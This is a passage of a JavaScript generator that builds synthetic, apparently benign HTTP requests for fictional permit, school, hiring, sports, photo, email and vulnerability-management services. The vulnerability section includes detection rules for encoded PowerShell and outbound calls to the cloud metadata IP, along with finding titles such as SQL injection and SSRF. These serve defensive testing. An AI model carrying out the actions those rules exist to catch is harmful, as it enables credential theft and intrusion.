    kind: 'search',
    method: 'GET',
    path: `/v2/permits/search?${qs({ status: pick(['submitted', 'in_review', 'approved', 'issued', 'expired']), type: pick(['building', 'fence', 'sign']), address: pick(['oak st', 'main street', "O'Brien Way", 'Rue des Lilas']), issued_after: isoDate(), page: int(1, 8), per_page: 25, sort: pick(['-issued_at', 'address', 'valuation']) })}`,
    headers: anyClient(H.permits),
    body: '',
  }),
  () => {
    const m = multipart([
      { name: 'application_id', value: `BLD-2026-${int(1000, 9999)}` },
      {
        name: 'document_type',
        value: pick(['site_plan', 'structural_calcs', 'proof_of_ownership', 'insurance_certificate']),
      },
      {
        name: 'description',
        value: pick([
          'Rev C site plan, stamped',
          'Signed deed (2 pages)',
          'COI exp. 06/2027',
          'Calcs per ASCE 7-22',
        ]),
      },
      {
        name: 'file',
        filename: pick([
          'Site Plan rev C (final) FINAL.pdf',
          'deed_scan_2026-10-03.pdf',
          'COI - Smith & Sons.pdf',
          'calcs.pdf',
        ]),
        type: 'application/pdf',
        value: `%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n`,
      },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/v2/permits/documents',
      headers: browser(H.permits, m.ct),
      body: m.body,
    };
  },
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/forms/public-records-request',
    headers: browser(H.permits, 'application/x-www-form-urlencoded'),
    body: qs({
      requester_name: person(),
      requester_email: email(),
      department: pick(['Building & Safety', 'Police', 'City Clerk', 'Public Works']),
      records_description: pick([
        'All inspection reports for 1423 Oak St from 2019–2026, incl. any code violations & "stop work" orders.',
        'Emails between Public Works and contractor re: Harbor Blvd repaving (Jan-Mar 2026)',
        'Copy of my own permit file, BLD-2026-0831',
      ]),
      delivery: pick(['email', 'pickup']),
      agree_fees: 'on',
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/v2/permits/applications/BLD-2026-${int(1000, 9999)}/inspections/${int(10000, 99999)}`,
    headers: browser(H.permits),
    body: '',
  }),
  () => ({
    kind: 'i18n',
    method: 'POST',
    path: '/v2/permits/applications/comments',
    headers: mobile(H.permits, jsonCt()),
    body: J({
      application_id: `BLD-2026-${int(1000, 9999)}`,
      language: pick(['de', 'es', 'pl', 'vi', 'zh', 'ar']),
      body: pick(PROSE_INTL),
      author: person(),
    }),
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/webhooks/payments/stripe',
    headers: {
      host: H.permits,
      'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
      'content-type': 'application/json; charset=utf-8',
      'stripe-signature': `t=${1764300000 + int(0, 99999)},v1=${hex(64)}`,
      accept: '*/*; q=0.5, application/xml',
    },
    body: J({
      id: `evt_${alnum(24)}`,
      object: 'event',
      api_version: '2024-06-20',
      created: 1764300000 + int(0, 99999),
      type: pick(['payment_intent.succeeded', 'charge.refunded', 'payment_intent.payment_failed']),
      data: {
        object: {
          id: `pi_${alnum(24)}`,
          object: 'payment_intent',
          amount: int(2500, 150000),
          currency: 'usd',
          description: `Permit fee BLD-2026-${int(1000, 9999)}`,
          metadata: {
            permit_id: `BLD-2026-${int(1000, 9999)}`,
            fee_code: pick(['PLAN-REVIEW', 'ISSUANCE', 'RE-INSPECT']),
          },
          last_payment_error:
            rand() > 0.7 ? { code: 'card_declined', message: 'Your card was declined.' } : null,
        },
      },
      livemode: true,
      request: { id: `req_${alnum(14)}`, idempotency_key: uuid() },
    }),
  }),
  // ---------- K-12 SIS
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/api/v1/sections/${int(100, 999)}/assignments/${int(1000, 9999)}/grades`,
    headers: browser(H.sis, jsonCt()),
    body: J({
      grades: Array.from({ length: int(2, 6) }, () => ({
        student_id: int(10000, 19999),
        score: pick([int(0, 100), null]),
        letter: pick(['A', 'A-', 'B+', 'B', 'C', 'I', 'EX']),
        comment: pick([
          'Great improvement!',
          'Missing work, see me',
          'Late (-10%)',
          'Excused — medical',
          'Retake allowed until 11/20',
          '',
        ]),
      })),
      term: '2026-FALL',
    }),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/api/v1/students/${int(10000, 19999)}`,
    headers: browser(H.sis, 'application/json-patch+json'),
    body: J([
      { op: 'test', path: '/version', value: int(1, 40) },
      { op: 'replace', path: '/contacts/0/phone', value: `+1-555-${int(100, 999)}-${int(1000, 9999)}` },
      {
        op: 'add',
        path: '/contacts/-',
        value: {
          name: person(),
          relationship: pick(['Mother', 'Father', 'Grandparent', 'Guardian', 'Aunt']),
          pickup_allowed: true,
        },
      },
      { op: 'remove', path: `/allergies/${int(0, 2)}` },
    ]),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: mobile(H.sis, jsonCt()),
    body: J({
      operationName: 'StudentAttendance',
      query:
        'query StudentAttendance($studentId: ID!, $from: Date!, $to: Date!) {\n  student(id: $studentId) {\n    id\n    firstName\n    attendance(from: $from, to: $to) { date status period note }\n  }\n}',
      variables: { studentId: String(int(10000, 19999)), from: '2026-09-01', to: isoDate() },
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${qs({ query: `{ section(id: "${int(100, 999)}") { name teacher { name email } roster(first: 40) { edges { node { id lastName } } } } }` })}`,
    headers: browser(H.sis),
    body: '',
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: '/api/v1/messages',
    headers: mobile(H.sis, jsonCt()),
    body: J({
      to: [{ type: 'teacher', id: int(100, 999) }],
      subject: pick([
        "Re: Jayden's missing assignments",
        'Absence tomorrow (dentist)',
        'Question about the field trip form',
        'Bullying concern — please call me',
      ]),
      body: pick([
        "Hi Ms. O'Brien, Jayden will be out tomorrow 11/14 for a dentist appt (8-10am). He'll bring a note. Can he pick up the worksheet from the front office? Thx",
        "Hello, my daughter says someone keeps taking her lunch at recess. She didn't want me to email but I think you should know. Can we talk? I'm free after 3:30.",
        "Quick question — the field trip form says 'select one: bus / parent drop-off'. Can I select both? I'll drive there but she'll take the bus back.",
        pick(PROSE_EN),
        pick(PROSE_INTL),
      ]),
      urgent: rand() > 0.8,
    }),
  }),
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/api/v1/reports/saved-queries',
    headers: browser(H.sis, jsonCt()),
    body: J({
      query: {
        name: pick([
          'Chronic absence (>10%) by school',
          'Failing grades 2026-FALL',
          'Students w/o emergency contact',
          'IEP roster by case manager',
        ]),
        sql: pick([
          "SELECT school_id, COUNT(*) FILTER (WHERE absent_pct > 0.10) AS chronic\nFROM v_attendance_summary\nWHERE school_year = '2026-27'\nGROUP BY school_id;",
          'SELECT s.id, s.last_name, s.first_name\nFROM students s\nLEFT JOIN contacts c ON c.student_id = s.id AND c.emergency = true\nWHERE c.id IS NULL AND s.active\nORDER BY s.last_name;',
          CODE_SNIPPETS[1]?.source ?? '',
        ]),
        shared_with: pick(['principals', 'counselors', 'district-admins']),
        schedule: pick(['0 6 * * 1', null]),
      },
    }),
  }),
  () => {
    const rows = Array.from({ length: int(3, 7) }, () =>
      J({
        student_id: int(10000, 19999),
        date: isoDate(),
        period: int(1, 7),
        status: pick(['P', 'A', 'T', 'EA']),
        note: pick(['', 'bus late', 'nurse visit', "Doctor's appt 9:00–10:30"]),
      }),
    );
    return {
      kind: 'ndjson',
      method: 'POST',
      path: '/api/v1/attendance/bulk',
      headers: sdk(H.sis, 'application/x-ndjson'),
      body: `${rows.join('\n')}\n`,
    };
  },
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/api/v1/schools/${int(1, 30)}/announcements/${int(100, 999)}`,
    headers: browser(H.sis, jsonCt()),
    body: J({
      announcement: {
        title: pick(TITLES),
        audience: pick(['parents', 'staff', 'all']),
        body_html: pick(CMS_HTML),
        pinned: rand() > 0.7,
        publish_at: isoTime(),
      },
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/v1/students?${qs({ q: pick(['garcia', "o'brien", 'nguyen, t', 'Müller', 'smith-jones', 'van der']), grade: pick(['K', '1', '5', '9', '12']), 'filter[status]': 'active', include: 'contacts,schedule', fields: 'id,first_name,last_name,grade', page: int(1, 5) })}`,
    headers: browser(H.sis),
    body: '',
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/v1/students/${int(10000, 19999)}/contacts/${int(1, 9)}`,
    headers: browser(H.sis, undefined, { 'if-match': `W/"${hex(16)}"` }),
    body: '',
  }),
  // ---------- job board / ATS
  () => ({
    kind: 'cms-html',
    method: 'POST',
    path: '/v1/jobs',
    headers: browser(H.jobs, jsonCt()),
    body: J({
      job: {
        title: pick([
          'Senior Backend Engineer (Go/Postgres)',
          'Data Analyst — SQL, dbt, Looker',
          'C++ Developer (Embedded/Linux)',
          'Security Engineer, AppSec',
          'Office Manager',
          'Barista / Café Lead',
        ]),
        location: pick(['Remote (US)', 'Austin, TX', 'Berlin, DE / hybrid', 'São Paulo', 'Toronto, ON']),
        salary: {
          min: int(50, 120) * 1000,
          max: int(130, 220) * 1000,
          currency: pick(['USD', 'EUR', 'CAD']),
        },
        description_html: pick(CMS_HTML),
        tags: [pick(TAGS), pick(TAGS)],
        apply_url: `https://careers.${pick(['acme-corp.com', 'brightline.fit', 'example.org'])}/apply/${int(1000, 9999)}?src=hirewell`,
      },
    }),
  }),
  () => {
    const resume = `${person()}\n${email()}\n\nEXPERIENCE\nSoftware Engineer, Initech (2019–present)\n - Cut p95 latency 40% by replacing N+1 queries with a single JOIN\n - Wrote bash/PowerShell tooling to automate deploys\nSKILLS: Python, SQL (Postgres, MySQL), Docker, AWS (EC2, S3, IAM), C#/.NET, "select" performance tuning`;
    const m = multipart([
      { name: 'job_id', value: String(int(1000, 9999)) },
      { name: 'full_name', value: person() },
      { name: 'email', value: email() },
      {
        name: 'cover_letter',
        value: pick([
          pick(PROSE_EN),
          "I'd love to join — I've used your product for 3 yrs & filed a few bug reports (sorry!).",
        ]),
      },
      { name: 'linkedin', value: `https://www.linkedin.com/in/${alnum(8).toLowerCase()}/` },
      {
        name: 'resume',
        filename: pick(['Resume_2026 (1).txt', 'CV-Müller.txt', 'resume final v3.txt']),
        type: 'text/plain',
        value: resume,
      },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/v1/applications',
      headers: browser(H.jobs, m.ct),
      body: m.body,
    };
  },
  () => ({
    kind: 'jsonapi',
    method: 'PATCH',
    path: `/v1/candidates/${uuid()}`,
    headers: sdk(H.jobs, 'application/vnd.api+json', { accept: 'application/vnd.api+json' }),
    body: J({
      data: {
        type: 'candidates',
        id: uuid(),
        attributes: {
          stage: pick(['screen', 'onsite', 'offer', 'rejected', 'hired']),
          'rejection-reason': pick([null, 'Not enough SQL experience', 'Withdrew']),
          notes: pick(REVIEW_SNIPPETS),
        },
        relationships: { recruiter: { data: { type: 'users', id: String(int(1, 200)) } } },
      },
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/v1/scorecards',
    headers: browser(H.jobs, 'application/vnd.api+json'),
    body: J({
      data: {
        type: 'scorecards',
        attributes: {
          overall: pick(['strong_yes', 'yes', 'no', 'strong_no']),
          ratings: { coding: int(1, 4), communication: int(1, 4), 'system-design': int(1, 4) },
          summary: pick(REVIEW_SNIPPETS),
          'private-notes': pick([
            'Mentioned they left prev job due to layoffs.',
            'Asked to move onsite to a Tuesday.',
            '',
          ]),
        },
        relationships: { application: { data: { type: 'applications', id: String(int(10000, 99999)) } } },
      },
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v1/jobs/search?${qs({ q: pick(['c++ developer', 'node.js', 'sql server dba', 'c# .net', 'devops / sre', 'react & typescript', 'entry level "data analyst"', 'drop shipping']), location: pick(['remote', 'New York, NY', 'München']), remote: 'true', salary_min: int(40, 150) * 1000, posted_within: '7d' })}`,
    headers: anyClient(H.jobs),
    body: '',
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/v1/integrations/calendly/webhook',
    headers: {
      host: H.jobs,
      'user-agent': 'Calendly-Webhook/1.0',
      'content-type': 'application/json',
      'calendly-webhook-signature': `t=${1764300000 + int(0, 9999)},v1=${hex(64)}`,
    },
    body: J({
      event: pick(['invitee.created', 'invitee.canceled']),
      created_at: isoTime(),
      payload: {
        email: email(),
        name: person(),
        event_type: { name: pick(['Phone screen (30 min)', 'Technical interview — 60 min']) },
        questions_and_answers: [
          {
            question: 'Anything we should know?',
            answer: pick(["I'm on PST, mornings are best", 'Will join from my phone, spotty wifi', 'N/A']),
          },
        ],
        cancel_url: `https://calendly.com/cancellations/${uuid()}`,
        tracking: { utm_source: 'hirewell', utm_campaign: null },
      },
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: sdk(H.jobs, jsonCt()),
    body: J({
      query:
        'mutation MoveStage($id: ID!, $stage: Stage!, $note: String) { moveApplication(id: $id, stage: $stage, note: $note) { id stage updatedAt } }',
      variables: { id: uuid(), stage: pick(['SCREEN', 'ONSITE', 'OFFER']), note: pick(REVIEW_SNIPPETS) },
      operationName: 'MoveStage',
    }),
  }),
  // ---------- sports league
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: `/v3/leagues/${int(1, 40)}/games/${int(1000, 9999)}/result`,
    headers: mobile(H.league, jsonCt()),
    body: J({
      home_score: int(0, 9),
      away_score: int(0, 9),
      status: pick(['final', 'forfeit', 'suspended']),
      events: [
        { minute: int(1, 45), type: 'goal', player_id: int(1, 999), assist_id: pick([int(1, 999), null]) },
        {
          minute: int(46, 90),
          type: pick(['yellow', 'red', 'sub']),
          player_id: int(1, 999),
          note: pick(['dissent', 'reckless tackle', '2nd yellow', '']),
        },
      ],
      ref_report: pick([
        'No incidents.',
        "Home coach ejected in 78' for dissent. Report filed.",
        pick(PROSE_EN),
      ]),
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/v3/teams/${int(100, 999)}/players/${int(1, 999)}`,
    headers: mobile(H.league, 'application/merge-patch+json'),
    body: J({
      jersey_number: int(0, 99),
      position: pick(['GK', 'DEF', 'MID', 'FWD', 'PG', 'C']),
      medical: { allergies: pick([null, 'peanuts', 'bee stings — EpiPen in bag']) },
      nickname: pick(['Speedy', 'El Toro', "Lil' Mo", null]),
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/register/player',
    headers: browser(H.league, 'application/x-www-form-urlencoded'),
    body: qs({
      'player[first_name]': pick(FIRST),
      'player[last_name]': pick(LAST),
      'player[dob]': `20${int(10, 19)}-0${int(1, 9)}-1${int(0, 9)}`,
      'guardian[email]': email(),
      division: pick(['U8', 'U10', 'U12', 'U14']),
      shirt_size: pick(['YS', 'YM', 'YL', 'AS']),
      waiver: 'accepted',
      notes: pick(['Wants to play with his friend Leo (team?)', 'Has asthma - inhaler', '']),
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v3/standings?${qs({ league: int(1, 40), season: pick(['2026-fall', '2026-spring']), division: pick(['U10', 'U12 Girls', 'Adult Co-Ed Rec', 'Over-35']), sort: pick(['points desc', '-gd', 'name']), include: 'form,last5' })}`,
    headers: anyClient(H.league),
    body: '',
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: { ...mobile(H.league, 'application/graphql') },
    body: `query {\n  team(id: "${int(100, 999)}") {\n    name\n    schedule(from: "${isoDate()}") { id kickoff field { name address } opponent { name } }\n  }\n}`,
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/v3/stats/ingest',
    headers: sdk(H.league, 'application/x-ndjson'),
    body: `${Array.from({ length: int(3, 8) }, () => J({ game_id: int(1000, 9999), ts: isoTime(), player_id: int(1, 999), stat: pick(['pts', 'reb', 'ast', 'shots_on_target', 'saves']), value: int(0, 12), source: pick(['scorekeeper-ipad', 'manual']) })).join('\n')}\n`,
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/v3/leagues/${int(1, 40)}/games/${int(1000, 9999)}?notify=true&reason=${enc(pick(['weather', 'field unavailable', 'duplicate entry']))}`,
    headers: browser(H.league),
    body: '',
  }),
  () => ({
    kind: 'i18n',
    method: 'POST',
    path: `/v3/teams/${int(100, 999)}/chat`,
    headers: mobile(H.league, jsonCt()),
    body: J({
      text: pick(PROSE_INTL),
      locale: pick(['pt-BR', 'es-MX', 'ko-KR', 'he-IL', 'ja-JP']),
      reply_to: pick([null, uuid()]),
    }),
  }),
  // ---------- photo sharing
  () => {
    const m = multipart([
      {
        name: 'caption',
        value: pick([
          'Golden hour at Ocean Beach 🌅 #sf #sunset',
          'Mi abuela cocinando 💛',
          'first roll of Portra 400!! dev by @thedarkroom',
          '東京タワー🗼夜景',
          'DSC_0042 — unedited, straight outta camera',
        ]),
      },
      { name: 'album_id', value: uuid() },
      { name: 'visibility', value: pick(['public', 'followers', 'private']) },
      {
        name: 'alt_text',
        value: pick(['Two kids jumping off a dock into a lake', 'Close-up of a bee on lavender', '']),
      },
      {
        name: 'photo',
        filename: pick([
          'IMG_4471.jpg',
          'DSCF0012.JPG',
          'photo (2).jpeg',
          'Screenshot 2026-11-02 at 10.14.33.png',
        ]),
        type: 'image/jpeg',
        value:
          '\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF\u0000\u0001\u0001\u0000\u0000H\u0000H\u0000\u0000\u00ff\u00db',
      },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/v1/photos',
      headers: mobile(H.photo, m.ct),
      body: m.body,
    };
  },
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/v1/photos/${alnum(11)}/comments`,
    headers: anyClient(H.photo, jsonCt()),
    body: J({
      text: pick([
        ...PROSE_EN.filter((p) => /photo|shot|lens|sunset/i.test(p)),
        'wow 🔥🔥🔥',
        'this is <3',
        'Where is this?? need to go asap',
        '10/10 would frame',
        'lol the dog in the background 😂',
        "can't believe this is a phone pic",
      ]),
      mentions: pick([[], [`@${alnum(6).toLowerCase()}`]]),
    }),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/v1/photos/${alnum(11)}`,
    headers: mobile(H.photo, 'application/merge-patch+json'),
    body: J({
      caption: pick(['edited: better crop', 'Cinque Terre, 2026 🇮🇹', 'Sunday <3']),
      location: pick([null, { name: 'Parque del Retiro, Madrid', lat: 40.4153, lng: -3.6845 }]),
      exif: { gps: null },
      tags: [pick(TAGS)],
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v1/explore?${qs({ tag: pick(['streetphotography', 'bw', 'filmisnotdead', 'café', 'nyc']), camera: pick(['Fujifilm X-T5', 'iPhone 16 Pro', 'Sony A7 IV']), cursor: b64(J({ id: int(1, 999999), ts: 1764300000 })), limit: 30 })}`,
    headers: mobile(H.photo),
    body: '',
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/v1/albums/${uuid()}`,
    headers: sdk(H.photo, 'application/json-patch+json'),
    body: J([
      { op: 'move', from: `/photos/${int(0, 9)}`, path: '/photos/0' },
      { op: 'replace', path: '/title', value: pick(['Japan 2026 🇯🇵', 'Wedding — Sam & Alex', 'Misc']) },
      { op: 'copy', from: '/cover', path: '/previous_cover' },
    ]),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/v1/photos/${alnum(11)}`,
    headers: mobile(H.photo),
    body: '',
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v1/reports',
    headers: mobile(H.photo, jsonCt()),
    body: J({
      target: { type: 'photo', id: alnum(11) },
      reason: pick(['spam', 'nudity', 'copyright', 'harassment']),
      details: pick([
        'This is my photo, posted without credit. Original: https://www.flickr.com/photos/jdoe/5234/',
        'Account is posting the same scam link in every comment',
        'Bot account, bio says "DM for promo"',
      ]),
    }),
  }),
  // ---------- email marketing
  () => ({
    kind: 'cms-html',
    method: 'POST',
    path: '/v3/templates',
    headers: browser(H.mail, jsonCt()),
    body: J({
      template: {
        name: pick(['Nov newsletter', 'Black Friday teaser v2', 'Welcome series #1', 'Re-engagement (90d)']),
        subject: pick([
          '{{first_name}}, your November update',
          '🔥 48 hours only: 20% off',
          'Welcome to the club!',
        ]),
        preheader: 'Open for details',
        html: emailTemplate(),
        text: 'Hi {{first_name}},\n\nView this email in your browser: {{web_version_url}}\n\nUnsubscribe: {{unsubscribe_url}}',
      },
    }),
  }),
  () => ({
    kind: 'cms-html',
    method: 'PUT',
    path: `/v3/templates/${uuid()}`,
    headers: sdk(H.mail, jsonCt()),
    body: J({
      template: {
        name: 'Transactional — receipt',
        html: emailTemplate(),
        editor: pick(['drag-and-drop', 'code']),
        version: int(2, 30),
      },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v3/campaigns',
    headers: browser(H.mail, jsonCt()),
    body: J({
      name: `${pick(['Nov', 'Dec', 'Spring'])} newsletter — ${pick(['segment A', 'VIPs', 'lapsed 90d'])}`,
      template_id: uuid(),
      list_ids: [int(1, 60), int(1, 60)],
      segment: {
        match: 'all',
        conditions: [
          { field: 'last_open', op: 'before', value: isoDate() },
          { field: 'country', op: 'in', value: ['US', 'CA'] },
        ],
      },
      send_at: isoTime(),
      from: { name: pick(['Café Crème', 'North Valley PTA']), email: 'hello@news.example.com' },
      reply_to: email(),
      tracking: { opens: true, clicks: true, utm: 'utm_source=newsletter&utm_medium=email' },
    }),
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/v3/inbound/events/sendgrid',
    headers: {
      host: H.mail,
      'user-agent': 'SendGrid Event API',
      'content-type': 'application/json',
      'x-twilio-email-event-webhook-signature': b64(hex(64)),
      'x-twilio-email-event-webhook-timestamp': String(1764300000 + int(0, 9999)),
    },
    body: J(
      Array.from({ length: int(2, 5) }, () => ({
        email: email(),
        timestamp: 1764300000 + int(0, 9999),
        event: pick(['delivered', 'open', 'click', 'bounce', 'spamreport', 'unsubscribe']),
        sg_event_id: alnum(22),
        sg_message_id: `${alnum(22)}.filterdrecv-${int(1, 9)}-${alnum(5)}`,
        url: pick([undefined, 'https://shop.example.com/sale?utm_source=newsletter&utm_campaign=bf26']),
        reason: pick([
          undefined,
          '550 5.1.1 <jdoe@example.org>: Recipient address rejected: User unknown in virtual mailbox table',
        ]),
        useragent: pick([
          undefined,
          'Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)',
        ]),
        category: ['newsletter'],
      })),
    ),
  }),
  () => {
    const rows = Array.from({ length: int(3, 8) }, () =>
      J({
        email: email(),
        first_name: pick(FIRST),
        last_name: pick(LAST),
        tags: [pick(TAGS)],
        custom: { city: pick(['Zürich', 'Austin', 'Kraków', 'Lagos']), consent: 'double-opt-in' },
      }),
    );
    return {
      kind: 'ndjson',
      method: 'POST',
      path: '/v3/contacts/import',
      headers: sdk(H.mail, 'application/x-ndjson'),
      body: `${rows.join('\n')}\n`,
    };
  },
  () => ({
    kind: 'form',
    method: 'POST',
    path: `/subscribe/${alnum(10)}`,
    headers: browser(H.mail, 'application/x-www-form-urlencoded'),
    body: qs({
      EMAIL: email(),
      FNAME: pick(FIRST),
      'group[1234][1]': '1',
      b_honeypot: '',
      tags: 'website-footer',
      'consent[gdpr]': 'Y',
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v3/reports/campaigns/${uuid()}/clicks?${qs({ url: pick(['https://shop.example.com/?utm_source=newsletter&utm_medium=email', 'https://example.com/blog/how-to-select-a-running-shoe']), from: isoDate(), group_by: 'link' })}`,
    headers: sdk(H.mail),
    body: '',
  }),
  // ---------- vuln management
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/api/v2/findings',
    headers: browser(H.vuln, jsonCt()),
    body: J({
      finding: {
        title: pick([
          'TLS 1.0/1.1 enabled on permits portal',
          'Reflected XSS in job search',
          'IDOR on student records endpoint',
          'Outdated log4j-core in reporting jar',
          'Blind SQLi in stats export',
          'Public S3 bucket (thumbnails)',
          'SSRF via wiki URL import',
          'Path traversal in attachment download',
          'Leaked API key in git history',
          'Weak password policy (parent portal)',
        ]),
        severity: pick(['low', 'medium', 'high', 'critical']),
        cvss_vector: pick([
          'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N',
          'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N',
          'CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H',
        ]),
        description: pick(FINDING_DESCS),
        cwe: pick(['CWE-79', 'CWE-89', 'CWE-918', 'CWE-22', 'CWE-639', 'CWE-326', 'CWE-1321', 'CWE-798']),
        asset: pick([
          'permits-web-01',
          'sis-api',
          'hirewell-search',
          'reporting-legacy',
          'snapshare-thumbs',
          'kb-import-worker',
        ]),
        references: [
          'https://owasp.org/Top10/',
          `https://nvd.nist.gov/vuln/detail/CVE-20${int(19, 26)}-${int(1000, 49999)}`,
        ],
      },
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/api/v2/findings/${int(1000, 9999)}/comments`,
    headers: browser(H.vuln, jsonCt()),
    body: J({
      body: pick([
        'Retested after the fix in release 4.12 — the parameter is now encoded correctly, closing. Evidence screenshot attached.',
        'Risk accepted by the data owner until 2027-01-31 (compensating control: service only reachable via VPN). @ciso please sign off.',
        'Not a false positive. The scanner flagged it as "possible SQL injection" and I confirmed the ORDER BY clause takes the raw value; blind, time-based. Staging only, no prod data touched.',
        "Vendor says the fix ships in 2.17.1. We can't upgrade until the Java 8 → 17 migration, so I'm adding a JVM flag workaround in the meantime (-Dlog4j2.formatMsgNoLookups=true).",
        'Dup of VULN-4411. Merging.',
        `Scan output:\n\`\`\`\n${pick(ERR_LOGS)}\n\`\`\``,
        "Pen-test vendor asked for a list of in-scope hosts + test accounts. I'll share via 1Password, not here. Window: Mon–Wed 22:00–04:00 UTC.",
      ]),
      internal: true,
    }),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/api/v2/findings/${int(1000, 9999)}`,
    headers: sdk(H.vuln, 'application/json-patch+json'),
    body: J([
      {
        op: 'replace',
        path: '/status',
        value: pick(['triaged', 'in_progress', 'fixed', 'risk_accepted', 'false_positive']),
      },
      { op: 'add', path: '/assignee', value: email() },
      { op: 'add', path: '/labels/-', value: pick(['pci', 'sox', 'internet-facing', 'quick-win']) },
    ]),
  }),
  () => ({
    kind: 'ndjson',
    method: 'POST',
    path: '/api/v2/scans/import?format=ndjson&scanner=nuclei',
    headers: sdk(H.vuln, 'application/x-ndjson'),
    body: `${Array.from({ length: int(2, 5) }, () =>
      J({
        'template-id': pick([
          'tls-version',
          'missing-hsts',
          'x-frame-options',
          'expired-ssl',
          'tech-detect',
          'open-redirect-generic',
        ]),
        info: {
          name: pick([
            'TLS Version - Detect',
            'HTTP Missing Security Headers',
            'Wappalyzer Technology Detection',
          ]),
          severity: pick(['info', 'low', 'medium']),
        },
        host: `https://${pick(Object.values(H))}`,
        'matched-at': `https://${pick(Object.values(H))}:443`,
        timestamp: isoTime(),
        'matcher-status': true,
      }),
    ).join('\n')}\n`,
  }),
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/api/v2/detections',
    headers: browser(H.vuln, jsonCt()),
    body: J({
      detection: {
        name: pick([
          'Suspicious PowerShell encoded command',
          'Outbound to metadata IP',
          'Many 401s from one IP',
        ]),
        language: pick(['sigma', 'kql', 'spl']),
        source: pick([
          "title: Encoded PowerShell\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  selection:\n    Image|endswith: '\\powershell.exe'\n    CommandLine|contains: ' -enc '\n  condition: selection\nlevel: high",
          'index=web sourcetype=nginx status=401\n| stats count by clientip\n| where count > 100\n| sort -count',
          'DeviceNetworkEvents\n| where RemoteIP == "169.254.169.254"\n| where InitiatingProcessFileName !in~ ("amazon-ssm-agent.exe", "ec2config.exe")\n| project Timestamp, DeviceName, InitiatingProcessCommandLine',
        ]),
        enabled: true,
      },
    }),
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/api/v2/integrations/github/webhook',
    headers: {
      host: H.vuln,
      'user-agent': `GitHub-Hookshot/${hex(7)}`,
      'content-type': 'application/json',
      'x-github-event': 'dependabot_alert',
      'x-github-delivery': uuid(),
      'x-hub-signature-256': `sha256=${hex(64)}`,
    },
    body: J({
      action: pick(['created', 'fixed', 'dismissed']),
      alert: {
        number: int(1, 400),
        state: 'open',
        dependency: {
          package: {
            ecosystem: pick(['npm', 'maven', 'pip']),
            name: pick(['lodash', 'org.apache.logging.log4j:log4j-core', 'jinja2', 'express']),
          },
          manifest_path: pick(['package-lock.json', 'pom.xml', 'requirements.txt']),
        },
        security_advisory: {
          ghsa_id: `GHSA-${alnum(4).toLowerCase()}-${alnum(4).toLowerCase()}-${alnum(4).toLowerCase()}`,
          summary: pick([
            'Prototype Pollution in lodash',
            'Remote code injection in Log4j',
            'Jinja2 sandbox breakout through indirect reference to format method',
          ]),
          severity: pick(['high', 'critical']),
        },
        html_url: `https://github.com/acme/reporting/security/dependabot/${int(1, 400)}`,
      },
      repository: { full_name: pick(['acme/reporting', 'acme/photo-service', 'acme/kb']) },
      sender: { login: 'dependabot[bot]' },
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/v2/findings?${qs({ q: pick(['log4j', 'sql injection', 'xss', 'CVE-2021-44228', 'ssrf metadata', 'path traversal']), status: 'open', 'severity[]': pick(['high', 'critical']), sort: '-cvss', page: int(1, 4) })}`,
    headers: browser(H.vuln),
    body: '',
  }),
  // ---------- wiki / knowledge base
  () => ({
